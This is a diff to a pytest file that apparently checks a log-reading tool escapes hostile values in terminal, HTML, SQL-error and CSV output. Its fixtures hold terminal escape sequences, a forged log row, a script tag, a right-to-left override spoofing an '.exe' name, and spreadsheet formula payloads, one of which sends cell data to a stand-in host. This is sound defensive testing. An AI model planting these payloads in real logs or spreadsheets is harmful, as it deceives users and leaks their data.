@@ -22,14 +22,16 @@ from trackline.reader.text import escape, escape_json
 
 ID = "hostile-1"
 T0 = datetime(2026, 12, 7, 12, tzinfo=UTC)
-#: Clears the screen, sets the window title, forges a row after CR LF, NUL, a C1 CSI, DEL, markup.
+#: Clears the screen, sets the window title, forges a row after CR LF, NUL, a C1 CSI, DEL, markup, a Unicode
+#: line separator and a right-to-left override.
 HOSTILE = ("/x\x1b[2J\x1b]0;title\x07\r\nFORGED GET /admin -> 200\x00\x9b31m\x7f\x85"
-           "<script>document.title='owned'</script>")
-CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f]")
+           "<script>document.title='owned'</script>\u2028\u202egnp.exe")
+#: C0 but LF and tab, DEL, C1, Unicode's line/paragraph separators and bidirectional controls.
+CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069]")
 
 
 def controls(text: str) -> list[str]:
-    """The control characters of ``text`` that must never reach a terminal (all of C0 but LF and tab, DEL, C1)."""
+    """The control characters of ``text`` that must never reach a terminal (CONTROL)."""
     return CONTROL.findall(text)
 
 
@@ -139,6 +141,7 @@ def test_html_embeds_every_value_as_data(log_dir: Path, tmp_path: Path, capfd: p
     assert status == 0
     assert_text(out)
     text = page.read_text()
+    assert page.stat().st_mode & 0o007 == 0  # the page holds the lines: 0640, as the logs
     assert controls(text.replace("\n", "")) == []
     assert "<script>document" not in text and text.count("<script") == 2  # its data and its own script
     policy = re.search(r'http-equiv="Content-Security-Policy" content="([^"]+)"', text)
@@ -166,3 +169,20 @@ def test_sql_table_csv_and_json_lines_escape_every_value(log_dir: Path, capfd: p
     assert status == 0
     assert_text(out)
     assert [json.loads(row)["request_path"] for row in out.splitlines()] == [HOSTILE, HOSTILE]
+
+
+def test_sql_error_quoting_a_value_is_text(log_dir: Path, capfd: pytest.CaptureFixture[str]) -> None:
+    """DuckDB's error quotes the value it could not convert: the message is escaped like any output."""
+    status = main(["sql", "SELECT CAST(message AS INTEGER) FROM app", "--log-dir", str(log_dir)])
+    err = capfd.readouterr().err
+    assert status == 1 and err.startswith("trackline: sql: ") and err.count("\n") == 1
+    assert controls(err) == [] and "\\u001b[2J" in err
+
+
+@pytest.mark.parametrize("formula", ["=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")", "+1+1", "-2+3", "@SUM(A1)"])
+def test_sql_csv_shows_a_formula_as_text(tmp_path: Path, capfd: pytest.CaptureFixture[str], formula: str) -> None:
+    write_lines(tmp_path / "access.log", [access_line(T0, ID, hostname=None, user_agent=formula, status_code=200)])
+    status, out = run(capfd, "sql", "SELECT user_agent, status_code, -1 AS n FROM access", "--log-dir", str(tmp_path),
+                      "--csv")
+    assert status == 0
+    assert list(csv.reader(io.StringIO(out)))[1] == ["'" + formula, "200", "-1"]  # numbers stay numbers
